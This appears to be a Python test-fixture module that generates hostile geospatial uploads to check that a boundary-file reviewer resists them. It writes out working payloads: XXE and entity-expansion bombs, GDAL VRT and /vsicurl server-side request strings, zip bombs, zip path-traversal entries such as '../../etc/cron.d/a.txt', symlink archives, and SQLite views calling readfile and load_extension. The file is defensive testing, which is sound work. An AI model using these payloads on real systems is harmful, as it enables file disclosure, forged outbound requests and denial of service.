"""Files that are meant to read a file of the server, to make it ask another machine, or to wear it out.

Each comes with the canary file and the address that it tries to reach. None may be read as a red line, unless it is
sound apart from what it tries.
"""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

from geo_review.boundary.received import ReceivedFile

_KML = '<kml xmlns="http://www.opengis.net/kml/2.2">{}</kml>'
_PLACEMARK = (
    "<Placemark><name>{}</name><Polygon><outerBoundaryIs><LinearRing><coordinates>115.02,35.76 115.03,35.76 "
    "115.03,35.77 115.02,35.77 115.02,35.76</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>"
)
_GML = '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" {}>{}</gml:FeatureCollection>'
_TEXT = "[属性描述]\n带号=38\n[地块坐标]\n4,1,甲,,面,,,,@\n"


def hostile_files(canary: Path, address: str) -> Iterator[tuple[str, ReceivedFile]]:
    """Yield every attack by its name."""
    yield from _disguised(canary, address)
    yield from _xml(canary, address)
    yield from _zips(canary)
    yield from _deep_and_large()
    yield from _databases(canary)


def _disguised(canary: Path, address: str) -> Iterator[tuple[str, ReceivedFile]]:
    """What GDAL would open as another format, by whatever name."""
    layer = '<OGRVRTLayer name="{0}"><SrcDataSource>{1}</SrcDataSource><SrcLayer>{0}</SrcLayer></OGRVRTLayer>'
    for target in (str(canary), f"/vsicurl/{address}/a.geojson", f"WFS:{address}", f"/vsizip//vsicurl/{address}/a.zip"):
        vrt = f"<OGRVRTDataSource>{layer.format(canary.stem, target)}</OGRVRTDataSource>".encode()
        for suffix in ("kml", "gml", "shp", "txt", "gpkg", "dxf", "csv", "zip", "vrt", "geojson", "xlsx"):
            yield f"vrt.{suffix} {target[:9]}", ReceivedFile(name=f"红线.{suffix}", content=vrt)
        yield f"vrt in a zip {target[:9]}", _zipped({"a.kml": vrt})
        yield f"vrt in a gdb {target[:9]}", _zipped({"a.gdb/a00000001.gdbtable": vrt, "a.gdb/gdb": vrt})
    for connection in (
        str(canary),
        f"/vsicurl/{address}/a.gpkg",
        f"GPKG:/vsicurl/{address}/a.gpkg:a",
        f"WFS:{address}",
        f"OAPIF:{address}",
        f"CSV:{canary}",
        f"GeoJSON:{address}",
        f"{address}/a.geojson",
        f"PG:host=127.0.0.1 port={address.rpartition(':')[2]}",
        f"<GDALG>{address}</GDALG>",
        json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline read {canary}"}),
    ):
        yield f"words {connection[:12]}", ReceivedFile(name="红线.txt", content=connection.encode())
        yield f"name {connection[:12]}", ReceivedFile(name=connection, content=_TEXT.encode())
    url = json.dumps({"type": "FeatureCollection", "features": [], "$ref": f"{address}/a", "next": f"{address}/b"})
    yield "geojson with links", ReceivedFile(name="a.geojson", content=url.encode())


def _xml(canary: Path, address: str) -> Iterator[tuple[str, ReceivedFile]]:
    billion = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    quadratic = f'<!ENTITY a "{"x" * 50_000}">'
    for name, doctype, use in (
        ("xxe file", f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}">]>', "&x;"),
        ("xxe address", f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/x">]>', "&x;"),
        ("parameter entity", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}/x"> %x;]>', "x"),
        ("external dtd", f'<!DOCTYPE a SYSTEM "{address}/x.dtd">', "x"),
        ("entity bomb", f'<!DOCTYPE a [<!ENTITY a0 "lol">{billion}]>', "&a9;"),
        ("quadratic bomb", f"<!DOCTYPE a [{quadratic}]>", "&a;" * 20_000),
    ):
        head = f'<?xml version="1.0"?>{doctype}'
        yield f"kml {name}", _text("红线.kml", head + _KML.format(_PLACEMARK.format(use)))
        yield f"gml {name}", _text("红线.gml", head + _GML.format("", use))
        sheet = (head + f"<worksheet><sheetData><row><c><v>{use}</v></c></row></sheetData></worksheet>").encode()
        yield f"xlsx {name}", _zipped({"[Content_Types].xml": sheet, "xl/workbook.xml": sheet}, name="a.xlsx")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{canary}"/>'
    yield "kml xinclude", _text("红线.kml", _KML.format(_PLACEMARK.format(include)))
    link = f"<NetworkLink><Link><href>{address}/n.kml</href></Link></NetworkLink>"
    yield "kml network link", _text("红线.kml", _KML.format(link + _PLACEMARK.format("a")))
    style = f"<Style><IconStyle><Icon><href>{address}/i.png</href></Icon></IconStyle></Style>"
    yield "kml icon", _text("红线.kml", _KML.format(style + _PLACEMARK.format("a")))
    sheet = f'<?xml-stylesheet href="{address}/s.xsl" type="text/xsl"?>'
    yield "kml stylesheet", _text("红线.kml", sheet + _KML.format(_PLACEMARK.format("a")))
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a {address}/a.xsd"'
    yield "gml schema", _text("红线.gml", _GML.format(schema, "<gml:featureMember/>"))
    reference = f'<gml:featureMember xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{address}/m#1"/>'
    yield "gml xlink", _text("红线.gml", _GML.format("", reference))
    yield "gml without features", _text("红线.gml", _GML.format("", ""))
    for name, frame in (("kml", _KML), ("gml", _GML.replace("{}", "", 1))):
        yield f"deep {name}", _text(f"红线.{name}", frame.format("<a>" * 100_000 + "</a>" * 100_000))
        yield (
            f"wide {name}",
            _text(f"红线.{name}", frame.format("<a " + " ".join(f'b{n}=""' for n in range(50_000)) + "/>")),
        )


def _zips(canary: Path) -> Iterator[tuple[str, ReceivedFile]]:
    inside = _TEXT.encode()
    yield "bomb", _zipped({"a.txt": bytes(200 << 20)})
    yield "bomb of json", _zipped({"a.geojson": b"[" * (100 << 20)})
    yield "bomb in a workbook", _zipped({"[Content_Types].xml": b" " * (100 << 20), "xl/workbook.xml": b""}, "a.xlsx")
    yield "bomb in a kmz", _zipped({"doc.kml": b"<kml>" + b" " * (200 << 20)}, "a.kmz")
    yield "many entries", _zipped({f"{number}.txt": b"" for number in range(3000)})
    yield "nested", _zipped({"a.zip": _zipped({"a.txt": inside}).content})
    for name in (
        "../../etc/cron.d/a.txt",
        "/etc/a.txt",
        "C:\\a.txt",
        "..\\a.txt",
        "a/../../b.txt",
        "\\\\host\\a.txt",
        " ",
    ):
        yield f"path {name}", _zipped({name: inside})
    yield "link", _linked(canary)
    lying = bytearray(_zipped({"a.txt": b"x" * 100_000}).content)
    for at in (22, lying.rfind(b"PK\x01\x02") + 24):
        struct.pack_into("<I", lying, at, 10)
    yield "lying size", ReceivedFile(name="a.zip", content=bytes(lying))
    overlapping = _zipped({"a.txt": inside}).content
    directory = overlapping[overlapping.rfind(b"PK\x01\x02") : overlapping.rfind(b"PK\x05\x06")]
    end = bytearray(overlapping[overlapping.rfind(b"PK\x05\x06") :])
    struct.pack_into("<HHI", end, 8, 900, 900, len(directory) * 900)
    body = overlapping[: overlapping.rfind(b"PK\x01\x02")]
    yield "overlapping", ReceivedFile(name="a.zip", content=body + directory * 900 + bytes(end))


def _deep_and_large() -> Iterator[tuple[str, ReceivedFile]]:
    deep = '{"type":"FeatureCollection","features":' + "[" * 500_000 + "]" * 500_000 + "}"
    yield "deep json", _text("a.geojson", deep)
    objects = '{"type":"Feature","a":' + '{"a":' * 200_000 + "1" + "}" * 200_000 + "}"
    yield "deep objects", _text("a.geojson", objects)
    nested = '{"type":"GeometryCollection","geometries":[' * 20_000 + "]}" * 20_000
    yield "deep geometries", _text("a.geojson", nested)
    flood = ",".join(["[NaN,NaN]"] * 20_000)
    yield "nan flood", _text("a.geojson", f'{{"type":"Polygon","coordinates":[[{flood}]]}}')
    digits = f'{{"type":"Polygon","coordinates":[[[{"9" * 200_000},1]]]}}'
    yield "long number", _text("a.geojson", digits)
    zigzag = ",".join(f"[{115 + n % 2},{35.5 + n % 3 / 10}]" for n in range(400))
    yield "zigzag", _text("a.geojson", f'{{"type":"Polygon","coordinates":[[{zigzag},[115,35.5]]]}}')
    yield "nan survey", _text("a.txt", _TEXT + "".join(f"J{n},1,nan,inf\n" for n in range(20_000)))
    yield "one long line", _text("a.txt", _TEXT + "J1,1," + "1" * 1_000_000)
    yield "commas", _text("a.txt", _TEXT + "," * 1_000_000)
    yield "many parcels", _text("a.txt", _TEXT + "4,1,甲,,面,,,,@\n" * 2_000)
    header = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 50) + struct.pack("<2i8d", 1000, 5, *[0.0] * 8)
    record = struct.pack(">2i", 1, 0x7FFFFFFF) + struct.pack("<i4d2i", 5, *[0.0] * 4, 0x7FFFFFFF, 0x7FFFFFFF)
    yield "counts of a shp", ReceivedFile(name="a.shp", content=header + record)
    table = struct.pack("<B3BIHH20x", 3, 26, 1, 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF)
    yield "counts of a dbf", ReceivedFile(name="a.shp", content=header, companions={".dbf": table})
    yield (
        "counts of a dxf",
        _text("a.dxf", "0\nSECTION\n2\nENTITIES\n" + "0\nLINE\n8\n红线\n" * 5_000 + "0\nENDSEC\n0\nEOF\n"),
    )
    blocks = "".join(f"0\nBLOCK\n2\nB{n}\n" + f"0\nINSERT\n2\nB{n - 1}\n" * 10 + "0\nENDBLK\n" for n in range(1, 12))
    inserted = "0\nSECTION\n2\nENTITIES\n0\nINSERT\n2\nB11\n8\n红线\n0\nENDSEC\n0\nEOF\n"
    yield "blocks in blocks", _text("a.dxf", f"0\nSECTION\n2\nBLOCKS\n{blocks}0\nENDSEC\n{inserted}")
    yield "xls", ReceivedFile(name="a.xls", content=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096)


def _databases(canary: Path) -> Iterator[tuple[str, ReceivedFile]]:
    endless = "WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a) SELECT n AS fid, n AS geom FROM a"
    reading = f"SELECT 1 AS fid, readfile('{canary}') AS geom"
    loading = f"SELECT 1 AS fid, load_extension('{canary}') AS geom"
    for name, view in (("recursive view", endless), ("reading view", reading), ("loading view", loading)):
        yield name, _database(f"CREATE VIEW a AS {view}")
    trigger = "CREATE TRIGGER t AFTER INSERT ON gpkg_contents BEGIN SELECT randomblob(1000000000); END"
    yield "trigger", _database(f"CREATE TABLE a (fid INTEGER, geom BLOB); {trigger}; INSERT INTO a VALUES (1, x'4750')")
    yield "attached", _database(f"CREATE TABLE a (fid, geom); INSERT INTO a VALUES ('{canary}', '{canary}')")
    yield "large blob", _database("CREATE TABLE a (fid, geom); INSERT INTO a VALUES (1, zeroblob(30000000))")
    counts = b"GP\x00\x01" + struct.pack("<i", 4547) + b"\x01" + struct.pack("<II", 6, 0xFFFFFFFF)
    yield "counts of wkb", _database(f"CREATE TABLE a (fid, geom); INSERT INTO a VALUES (1, x'{counts.hex()}')")
    nested = b"GP\x00\x01" + struct.pack("<i", 4547) + (b"\x01" + struct.pack("<II", 7, 1)) * 50_000
    yield "deep wkb", _database(f"CREATE TABLE a (fid, geom); INSERT INTO a VALUES (1, x'{nested.hex()}')")


def _database(statements: str) -> ReceivedFile:
    database = sqlite3.connect(":memory:")
    database.executescript(
        f"""
        PRAGMA application_id = 1196444487;
        CREATE TABLE gpkg_contents (table_name, data_type, identifier, srs_id);
        CREATE TABLE gpkg_geometry_columns (table_name, column_name, geometry_type_name, srs_id, z, m);
        CREATE TABLE gpkg_spatial_ref_sys (srs_name, srs_id, organization, organization_coordsys_id, definition);
        {statements};
        INSERT INTO gpkg_contents VALUES ('a', 'features', 'a', 4547);
        INSERT INTO gpkg_geometry_columns VALUES ('a', 'geom', 'POLYGON', 4547, 0, 0);
        INSERT INTO gpkg_spatial_ref_sys VALUES ('a', 4547, 'EPSG', 4547, 'a');
        """
        if "TRIGGER" not in statements
        else """
        CREATE TABLE gpkg_contents (table_name, data_type, identifier, srs_id);
        CREATE TABLE gpkg_geometry_columns (table_name, column_name, geometry_type_name, srs_id, z, m);
        """
        + statements
    )
    content = database.serialize()
    database.close()
    return ReceivedFile(name="红线.gpkg", content=content)


def _zipped(entries: dict[str, bytes], name: str = "红线.zip") -> ReceivedFile:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in entries.items():
            archive.writestr(path, content)
    return ReceivedFile(name=name, content=packed.getvalue())


def _linked(canary: Path) -> ReceivedFile:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(canary))
    return ReceivedFile(name="a.zip", content=packed.getvalue())


def _text(name: str, text: str) -> ReceivedFile:
    return ReceivedFile(name=name, content=text.encode())
